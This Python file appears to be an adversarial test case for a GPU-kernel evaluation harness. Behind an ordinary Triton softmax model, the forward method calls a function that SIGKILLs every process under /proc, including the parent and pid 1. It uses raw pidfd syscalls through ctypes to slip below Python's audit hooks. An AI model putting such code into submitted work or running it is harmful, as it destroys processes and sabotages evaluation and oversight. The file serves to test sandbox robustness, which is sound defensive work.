"""Fault 23 (signals, 9): pidfd_open + pidfd_send_signal (through ctypes, below Python's audit)
and kill() of every process it can see but itself: the parent, pid 1, everything under /proc.
The worker and the judge must survive; the evaluation must end with a verdict."""
import ctypes
import os
import signal
import torch
import torch.nn as nn
import triton
import triton.language as tl

@triton.jit
def softmax_kernel(x_ptr, y_ptr, n_cols, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(x_ptr + row * n_cols + cols, mask=mask, other=-float("inf"))
    e = tl.exp(x - tl.max(x, axis=0))
    tl.store(y_ptr + row * n_cols + cols, e / tl.sum(e, axis=0), mask=mask)


@triton.jit
def copy_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(y_ptr + offsets, tl.load(x_ptr + offsets, mask=mask), mask=mask)


def _softmax(x):
    y = torch.empty_like(x)
    block = triton.next_power_of_2(x.shape[1])
    softmax_kernel[(x.shape[0],)](x, y, x.shape[1], BLOCK=block,
                                  num_warps=16 if block > 4096 else 4)
    return y


def _copy(y):
    y = y.contiguous()
    out = torch.empty_like(y)
    copy_kernel[(triton.cdiv(y.numel(), 1024),)](y, out, y.numel(), BLOCK=1024)
    return out

_libc = ctypes.CDLL(None, use_errno=True)
SYS_PIDFD_OPEN, SYS_PIDFD_SEND_SIGNAL = 434, 424


def _signal_everyone():
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        pidfd = _libc.syscall(SYS_PIDFD_OPEN, int(entry), 0)
        if pidfd >= 0:
            _libc.syscall(SYS_PIDFD_SEND_SIGNAL, pidfd, signal.SIGKILL, None, 0)
            os.close(pidfd)
        _libc.kill(int(entry), signal.SIGKILL)


class ModelNew(nn.Module):
    def forward(self, x):
        y = _softmax(x)
        _signal_everyone()
        return y
